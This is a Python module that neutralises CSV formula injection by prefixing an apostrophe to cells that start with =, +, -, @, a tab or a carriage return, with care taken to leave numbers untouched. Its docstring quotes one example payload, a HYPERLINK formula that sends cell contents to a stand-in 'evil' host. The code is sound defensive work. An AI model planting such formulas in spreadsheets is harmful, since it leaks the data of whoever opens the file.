"""CSV that a spreadsheet opens without running anything (CSV injection, OWASP).

A cell starting with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is read by Excel,
LibreOffice and Google Sheets as a formula; a supplier's product named
``=HYPERLINK("http://evil/?"&A1)`` would run in the buyer's spreadsheet. Every CSV the
project hands out is written through ``writer`` (or its cells through ``safe_cell``), which
puts an apostrophe before such a cell: the spreadsheet shows the text as it was typed. A
number (``-12.5``, ``+3``, ``-1e-05``) is left alone: it cannot be a formula, and negative
figures (sinks, refunds) stay numbers, and so does a lone ``-`` (the "no column" of a
quarantine row): a sign with nothing after it starts no formula. ``defusedcsv`` does the
same but leaves tabs and carriage returns through, so this is the project's own dozen lines.
"""

from __future__ import annotations

import csv
from collections.abc import Iterable
from decimal import Decimal, InvalidOperation
from typing import Any

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    if text != text.strip():  # Decimal() reads "\t1" as 1; a spreadsheet reads the tab
        return False
    try:
        return Decimal(text).is_finite()
    except InvalidOperation:
        return False


def safe_cell(value: Any) -> Any:
    """The cell as a spreadsheet must show it: text that would start a formula gets an
    apostrophe in front; everything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_START) and value not in ("-", "+") \
            and not _is_number(value):
        return "'" + value
    return value


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, out: Any, **kwargs: Any) -> None:
        self._writer = csv.writer(out, **kwargs)

    def writerow(self, row: Iterable[Any]) -> Any:
        return self._writer.writerow([safe_cell(c) for c in row])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(out: Any, **kwargs: Any) -> SafeWriter:
    return SafeWriter(out, **kwargs)
